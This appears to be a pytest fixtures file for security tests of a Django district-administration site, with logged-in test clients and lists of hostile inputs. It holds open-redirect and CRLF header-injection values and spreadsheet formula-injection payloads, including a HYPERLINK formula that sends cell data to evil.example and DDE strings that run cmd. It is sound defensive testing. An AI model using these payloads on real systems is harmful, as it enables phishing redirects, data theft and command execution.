"""Fixtures of the hostile-input tests: clients logged in as every role, through the real login
forms (the provincial console with password and second factor), and the hostile values every
test draws from."""

import itertools

import pytest
from django.test import Client
from django.utils import translation
from django.utils.html import escape
from django_otp.plugins.otp_totp.models import TOTPDevice

from tenants import actions
from tests.conftest import PASSWORD, current_code
from tests.district_site.conftest import log_in

# Redirect targets an attacker puts in ?next= (each must fall back to a page of the site).
HOSTILE_TARGETS = [
    "https://evil.example/",
    "http://evil.example/manage/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/\tevil.example",
    "/\x00evil",
    "\x00",
    " //evil.example/",
    "https:evil.example",
    "http:/\\evil.example",
    "evil.example",
    "/manage/\r\nSet-Cookie: x=1",
    "a" * 10_000,
]

# Text officers might type that spreadsheets would otherwise run as a formula (OWASP).
HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=SUM(A1)",
    "-minus",
]

_admins = itertools.count()


def khmer(message, **params):
    """``message`` as a Khmer page shows it, HTML-escaped."""
    with translation.override("km"):
        text = translation.gettext(message)
    return escape(text % params if params else text)


def english(message, **params):
    text = str(message)
    return escape(text % params if params else text)


def new_provincial_admin():
    """A provincial admin of their own, so each login uses an unused second-factor code."""
    email = f"sec-admin{next(_admins)}@province.example"
    user = actions.create_provincial_admin(email=email, password=PASSWORD)
    device = TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    return email, device


def console_login(client, *, query="", data=None):
    """Log a new provincial admin in on ``client`` with password and code; the response."""
    email, device = new_provincial_admin()
    form = {"username": email, "password": PASSWORD, "otp_token": current_code(device)}
    return client.post(f"/console/login/{query}", {**form, **(data or {})})


@pytest.fixture
def console_client():
    """A client on the platform host logged in as a provincial admin (password and TOTP)."""
    client = Client(HTTP_HOST="localhost", raise_request_exception=False)
    assert console_login(client).status_code == 302
    return client


@pytest.fixture
def district_client(make_officer):
    """``district_client(district, role)``: a client on the district's host, logged in through
    the officer login form as a new officer with ``role``; ``role=None`` is anonymous."""

    def make(district, role=None):
        client = Client(HTTP_HOST=district.primary_domain, raise_request_exception=False)
        if role:
            email = make_officer(district, role)
            response = log_in(client, email)
            assert response.status_code == 302, role
        return client

    return make


@pytest.fixture(autouse=True)
def _limits_out_of_the_way(settings):
    """These tests send hundreds of requests from one address, and their subject is not the
    rate limits (tests/district_site/test_rate_limits.py is): the limits are raised for them."""
    settings.RATE_LIMITS = {
        scope: (max(limit, 100_000), seconds)
        for scope, (limit, seconds) in settings.RATE_LIMITS.items()
    }
